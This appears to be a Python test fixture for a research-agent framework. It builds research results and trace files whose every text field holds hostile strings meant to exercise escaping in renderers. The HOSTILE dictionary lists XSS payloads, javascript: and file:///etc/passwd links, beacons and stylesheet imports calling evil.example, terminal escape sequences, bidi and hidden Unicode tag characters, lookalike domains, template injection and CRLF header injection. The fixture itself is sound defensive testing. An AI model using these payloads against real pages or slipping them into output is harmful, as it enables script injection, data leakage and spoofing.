"""Texts that try to be more than text, and a call in which every text that comes from outside is one of them."""

from __future__ import annotations

from pathlib import Path

from marchwarden.contract import (
    ConfidenceFactors,
    CostMetadata,
    DiscoveryEvent,
    DiscoveryType,
    Gap,
    GapCategory,
    OpenQuestion,
    Priority,
    ResearchResult,
    SourceAuthority,
)
from marchwarden.observations import content_hash
from marchwarden.store.content_store import Store
from marchwarden.trace.events import (
    Dropped,
    Extracted,
    FailureRecord,
    Fetched,
    Finished,
    HitRecord,
    PickRecord,
    Planned,
    Searched,
)
from marchwarden.trace.writer import TraceWriter
from tests.trace.samples import TRACE_ID, a_citation, fetched, started

HOSTILE = {
    "script": "</p></style></script><script>alert(1)</script>",
    "event handler": "\"><img src=https://evil.example/x onerror=alert(1)> ' onclick='x",
    "svg": "<svg/onload=alert(1)><math><a xlink:href=javascript:alert(1)>x</a>",
    "base and refresh": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "style": '<style>@import "https://evil.example/x.css"; *{background:url(//evil.example)}</style>',
    "comment": "<!-- --!> <![CDATA[ ]]> <?x ?> &lt;script&gt; &#x3c;b&#x3e;",
    "template": "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{x}",
    "image": "![read](https://evil.example/receipt.png?who=you)",
    "link": "[click](javascript:alert(1)) [file](file:///etc/passwd) [1](https://evil.example)",
    "definition": "x\n\n[1]: https://evil.example/ 'title'\n[foo]: javascript:alert(1)\n\n[foo] ![foo]",
    "bare addresses": "https://evil.example/ www.evil.example javascript:alert(1) file:///etc/passwd me@evil.example",
    "angle address": "<https://evil.example/> <me@evil.example>",
    "heading": "x\n===\n\n# y\n---\n- - -\n***\n```\ncode\n```\n~~~\n    indented\n| a | b |\n|---|---|\n| c | d |",
    "formula": "$\\href{javascript:alert(1)}{x}$ \\(x\\) `code` ~~x~~ {onclick=alert(1)} :::note",
    "html in markdown": "<details open>\n<summary>x</summary>\n\n<img src=x>\n\n</details>",
    "terminal": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b]0;title\x07\x9b31m\x08\x08",
    "bell and null": "a\x07b\x00c\x7fd\x85e",
    "rich markup": "[red]red[/red] [link=https://evil.example]x[/link] :smile:",
    "bidi": "user\u202egnp.exe\u2066 \u2067x\u2069 \u061c",
    "tags": "hello\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "variation selectors": "😀\U000e0158\U000e0159\U000e01ef",
    "full-width dot": "bank．example bank。example bank｡example https://evil．example/x",
    "line separators": "a\u2028b\u2029c\x0bd\x0ce\r\nf\rg",
    "byte order and annotation": "\ufeffa\ufff9b\ufffac\ufffb\u2060\u180e",
    "userinfo": "https://bank.example@evil.example/ https://evil.example\\@bank.example/",
    "null scheme": " javascript:alert(1) JaVaScRiPt:alert(1) java\tscript:alert(1) data:text/html,<b>x</b> vbscript:x",
    "json": '"}],"answer":"x"} \\u003c \\x00 \\',
    "path": "../../etc/passwd %2e%2e%2f %00 %0d%0aSet-Cookie:x=1",
}

SENTENCE = "Tomatoes grow well in Utah."


def a_hostile_result(text: str) -> ResearchResult:
    """A result with `text` in every field that takes a text."""
    locators = (text, f"https://x.example/{text}", f"https://{text}", f"https://x.example/?q={text}#{text}")
    return ResearchResult(
        answer=f"{text} [1]{text}\n- {text} [2]\n{text}[3] [4]",
        citations=[
            a_citation(source=text, locator=each, title=text, raw_excerpt=f"{SENTENCE}{text}"[:500])
            for each in locators
        ],
        gaps=[Gap(topic=text, category=GapCategory.ACCESS_DENIED, detail=text)],
        discovery_events=[
            DiscoveryEvent(
                type=DiscoveryType.NEW_SOURCE, suggested_researcher=text, query=text, reason=text, source_locator=each
            )
            for each in locators
        ],
        open_questions=[
            OpenQuestion(question=text, context=text, priority=Priority.LOW, source_locator=each) for each in locators
        ],
        confidence=0.5,
        confidence_factors=ConfidenceFactors(
            num_corroborating_sources=1,
            source_authority=SourceAuthority.LOW,
            contradiction_detected=False,
            query_specificity_match=0.5,
            budget_exhausted=False,
            calibration=text,
            would_change=text,
        ),
        cost_metadata=CostMetadata(
            tokens_used=0, iterations_run=1, wall_time_sec=0.1, budget_exhausted=False, model_id=text
        ),
        trace_id=TRACE_ID,
        contract_version=text,
    )


def a_hostile_trace(folder: Path, text: str) -> Path:
    """Write the trace of a call in which pages, services and the model say `text`, and return its file."""
    result = a_hostile_result(text)
    page = f"Before. {SENTENCE}{text} {text} after."
    excerpt = result.citations[0].raw_excerpt
    start = page.index(SENTENCE)
    store = Store(folder / "store")
    body, words = b"<p>hostile</p>", page.encode("utf-8", "replace")
    store.put(body)
    store.put(words)
    locators = [citation.locator for citation in result.citations]
    hashes = {"content_hash": content_hash(body), "text_hash": content_hash(words)}
    pick = PickRecord(start=start, end=start + len(excerpt), excerpt=excerpt, aspect=text, stance="supports")
    failed = {"final_url": f"https://y.example/{text}", "failure": FailureRecord(kind="timeout", detail=text)}
    with TraceWriter(folder, TRACE_ID) as writer:
        writer.record(started(text).model_copy(update={"context": text, "program_notes": [text], "source": text}))
        writer.record(
            Planned(
                decision=text,
                iteration=1,
                aspects=[text],
                queries=[text],
                read=[text],
                done=False,
                stage_form="model",
            )
        )
        hits = [HitRecord(url=text, title=text, snippet=text)]
        writer.record(Searched(decision=text, query=text, provider=text, hits=hits, duration_sec=0.1))
        for locator in locators:
            named = {"decision": text, "url": locator, "title": text, "content_type": text, "redirects": [text]}
            read: Fetched = fetched(**named, **{"final_url": locator, **hashes})
            writer.record(read)
            writer.record(Extracted(decision=text, url=locator, passages=1, picks=[pick], stage_form="model"))
        writer.record(fetched(decision=text, url=f"https://y.example/{text}", status=None, **failed))
        writer.record(Dropped(decision=text, what="claim", text=text))
        writer.record(Finished(decision=text, result=result))
    return writer.path
